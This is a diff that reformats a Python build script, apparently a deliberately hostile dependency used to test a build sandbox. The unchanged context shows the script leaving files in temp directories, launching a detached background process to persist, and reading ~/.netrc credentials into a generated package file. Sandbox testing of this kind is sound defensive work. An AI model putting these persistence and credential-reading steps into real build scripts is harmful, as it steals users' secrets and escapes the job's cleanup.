@@ -1,4 +1,7 @@
 """The build script of a dependency that tries to stay. What became of each attempt goes into the package."""
+
+from __future__ import annotations
+
 import ctypes
 import json
 import os
@@ -25,7 +28,14 @@ def connect(path):
 
 
 def runs(*argv, said=''):
-    subprocess.run(argv, input=said.encode(), check=True, timeout=10, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    subprocess.run(
+        argv,
+        input=said.encode(),
+        check=True,
+        timeout=10,
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+    )
 
 
 def attach():
@@ -73,8 +83,13 @@ def outcomes():
 
 for path in ('/tmp/evil-left', '/var/tmp/evil-left', '/dev/shm/evil-left'):
     append(path)  # allowed, and gone with the job
-subprocess.Popen(['sleep', '1001'], start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
-                 stderr=subprocess.DEVNULL)
+subprocess.Popen(
+    ['sleep', '1001'],
+    start_new_session=True,
+    stdin=subprocess.DEVNULL,
+    stdout=subprocess.DEVNULL,
+    stderr=subprocess.DEVNULL,
+)
 found = dict(outcomes())
 found['configuration'] = open(HOME + '/.netrc').read().strip()
 with open('evil_found.py', 'w') as file:
